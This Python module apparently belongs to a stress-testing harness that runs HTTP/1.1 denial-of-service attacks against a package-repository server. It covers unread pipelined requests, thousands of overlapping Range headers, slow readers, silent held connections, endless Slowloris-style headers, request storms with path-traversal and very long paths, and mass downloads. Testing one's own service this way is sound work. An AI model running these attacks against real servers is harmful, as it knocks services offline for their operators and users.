"""HTTP/1.1: answers that nobody reads, requests that never end, connections that say nothing."""

import contextlib
import itertools
import random
import socket
import time

from abuse import service, wire
from abuse.attack import Attack, Tally, Target, in_threads
from abuse.attacks.http2_abuse import TINY_RECEIVE_BYTES, _big_path

READ_PATHS = [
    "/-/openapi.json",
    "/live/?recursive=1",
    "/",
    "/-/repositories",
    "/-/status",
    "/-/metrics",
    f"/{service.ATTACKED_DEB.rsplit('/', 1)[0]}/",
]


def _hold(target: Target, tally: Tally, count: int, sent: bytes, per_address: int = 64, receive_bytes: int = TINY_RECEIVE_BYTES) -> None:
    """Connections that send the bytes and then neither read nor write; those that the server closes are opened again."""
    opened: list[socket.socket] = []
    while not target.over:
        while len(opened) < count and not target.over:
            try:
                connection = wire.open_connection(target.address, target.source(len(opened) // per_address), 5, receive_bytes)
                connection.sendall(sent)
                connection.setblocking(False)
                opened.append(connection)
                tally.count("held")
            except OSError as error:
                tally.count(type(error).__name__)
                target.wait(0.1)
        target.wait(1)
        still = [connection for connection in opened if not _was_closed(connection)]
        tally.count("closed by the server", len(opened) - len(still))
        opened = still
    tally.note(f"{len(opened)} held at the end")
    for connection in opened:
        connection.close()


def _was_closed(connection: socket.socket) -> bool:
    """Whether the other side ended it, without reading what it sent before."""
    with contextlib.suppress(OSError):
        return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0] != 1
    return True


def pipelined(target: Target, tally: Tally) -> None:
    """Hundreds of requests at once on each connection, whose answers are never read."""
    path = _big_path(target)
    asked = b"".join(wire.head("GET", next_path) for next_path in [path, *READ_PATHS] * 40)
    _hold(target, tally, 30 if target.short else 800, asked)


def many_ranges(target: Target, tally: Tally) -> None:
    """Ranges: thousands of small ones, overlapping ones, and HEAD with them; read by half of the clients."""
    path = _big_path(target)
    ranges = [
        ",".join(f"{start}-{start + 1}" for start in range(0, 20_000, 5)),
        ",".join("0-" for _ in range(1000)),
        ",".join(f"{start}-" for start in range(1300)),
        ",".join(f"-{size}" for size in range(1, 1300)),
    ]
    rounds = itertools.count()

    def one(number: int) -> None:
        left = 5 if target.short else 1 << 30
        while left and not target.over:
            left -= 1
            wanted = {"Range": "bytes=" + ranges[number % len(ranges)], "Connection": "close"}
            method = "HEAD" if number % 5 == 4 else "GET"
            sent = wire.head(method, path, wanted)
            answer = wire.exchange(target.address, sent, source=target.source(number), timeout=10, bodiless=method == "HEAD")
            tally.count(answer)
            next(rounds)

    in_threads(8 if target.short else 40, one)


def slow_readers(target: Target, tally: Tally) -> None:
    """Clients with tiny receive buffers that take a few bytes now and then, of files, listings and documents."""
    paths = [_big_path(target), *READ_PATHS]
    opened: list[socket.socket] = []
    count = 60 if target.short else 1500
    while not target.over:
        while len(opened) < count and not target.over:
            try:
                connection = wire.open_connection(target.address, target.source(len(opened) // 64), 5, TINY_RECEIVE_BYTES)
                connection.sendall(wire.head("GET", paths[len(opened) % len(paths)]))
                opened.append(connection)
                tally.count("held")
            except OSError as error:
                tally.count(type(error).__name__)
                target.wait(0.1)
        for connection in list(opened):
            connection.settimeout(0.001)
            try:
                if not connection.recv(16):
                    opened.remove(connection)
            except TimeoutError:
                pass
            except OSError:
                opened.remove(connection)
        target.wait(1)
    tally.note(f"{len(opened)} at the end")


def silent(target: Target, tally: Tally) -> None:
    """As many connections as the server takes, all of one address, that say nothing."""
    _hold(target, tally, 300 if target.short else 4096, b"", per_address=1 << 30, receive_bytes=0)


def silent_everywhere(target: Target, tally: Tally) -> None:
    """The same from many addresses."""
    _hold(target, tally, 300 if target.short else 4096, b"", per_address=32, receive_bytes=0)


def slow_headers(target: Target, tally: Tally) -> None:
    """Heads that come a line at a time and never end."""
    opened: list[socket.socket] = []
    count = 100 if target.short else 3000
    numbers = itertools.count()
    while not target.over:
        while len(opened) < count and not target.over:
            try:
                connection = wire.open_connection(target.address, target.source(len(opened) // 64), 5)
                connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                opened.append(connection)
            except OSError as error:
                tally.count(type(error).__name__)
                target.wait(0.1)
        started = time.monotonic()
        for connection in list(opened):
            try:
                connection.sendall(f"X-{next(numbers)}: {'a' * 500}\r\n".encode())
                tally.count("lines")
            except OSError:
                opened.remove(connection)
                tally.count("closed by the server")
        target.wait(max(0.1, 5 - (time.monotonic() - started)))


def storm_of_requests(target: Target, tally: Tally) -> None:
    """Cheap requests that cost the server most, from many clients that do read: listings, statuses, metrics, odd methods."""
    paths = [*READ_PATHS, f"/-/status/{'0' * 32}", "/-/mirrorlist/live/1.10/el/8/x86_64", "/live/%2e%2e/live/" + "x/" * 500]
    methods = ["GET", "HEAD", "OPTIONS", "POST", "DELETE", "PATCH"]

    def one(number: int) -> None:
        left = 20 if target.short else 1 << 30
        while left and not target.over:
            left -= 1
            answer = wire.request(
                target.address, random.choice(methods), random.choice(paths), source=target.source(number % 32), timeout=10
            )
            tally.count(answer)

    in_threads(8 if target.short else 64, one)


def downloads(target: Target, tally: Tally) -> None:
    """A hundred clients that download a large file at once, as fast as they can."""
    path = _big_path(target)

    def one(number: int) -> None:
        left = 3 if target.short else 1 << 30
        while left and not target.over:
            left -= 1
            answer = wire.request(target.address, "GET", path, source=target.source(number % 10), timeout=20)
            whole = len(answer.body) == int(answer.headers.get("content-length", -1))
            tally.count(answer if whole or answer.status != 200 else "200, cut")

    in_threads(20 if target.short else 100, one)


ATTACKS = [
    Attack("h1-pipelined", "pipelined requests whose answers are never read", pipelined, short=True),
    Attack("h1-ranges", "thousands of ranges in one request", many_ranges, short=True),
    Attack("h1-slow-readers", "tiny receive buffers, a few bytes a second", slow_readers, short=True),
    Attack("silent", "4096 silent connections of one address", silent, short=True),
    Attack("silent-everywhere", "4096 silent connections of 128 addresses", silent_everywhere),
    Attack("slow-headers", "3000 heads that never end", slow_headers, short=True),
    Attack("downloads", "100 clients that download 5 MB again and again", downloads, short=True),
    Attack("request-storm", "64 clients that ask for what costs most", storm_of_requests, short=True),
]
